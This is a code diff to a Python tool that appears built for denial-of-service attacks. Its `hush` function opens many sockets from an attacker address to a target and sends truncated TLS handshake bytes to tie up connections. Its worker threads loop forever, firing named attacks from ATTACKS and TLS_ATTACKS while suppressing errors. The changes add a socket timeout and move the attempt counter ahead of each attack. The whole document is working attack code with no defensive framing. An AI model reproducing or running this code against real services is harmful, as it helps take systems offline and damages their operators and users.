@@ -103,6 +103,7 @@ def hush(hand: Hand) -> None:
     with ExitStack() as stack:
         for number in range(SILENT):
             mute = stack.enter_context(socket.socket())
+            mute.settimeout(PATIENCE)
             mute.bind((ATTACKER, 0))
             mute.connect((hand.target.host, hand.target.port))
             mute.sendall(b"\x16\x03\x01"[: number % 4])
@@ -124,10 +125,10 @@ def _work(name: str, target: Target, tries: "Synchronized[int]") -> None:
 
     def repeat(hand: Hand) -> None:
         while True:
-            with suppress(OSError, AssertionError):  # refusée, retenue ou congédiée
-                (ATTACKS | TLS_ATTACKS)[name](hand)
             with tries.get_lock():
                 tries.value += 1
+            with suppress(OSError, AssertionError):  # refusée, retenue ou congédiée
+                (ATTACKS | TLS_ATTACKS)[name](hand)
             time.sleep(0)
 
     hands = [Thread(target=repeat, args=(Hand(target, n),), daemon=True) for n in range(HANDS)]
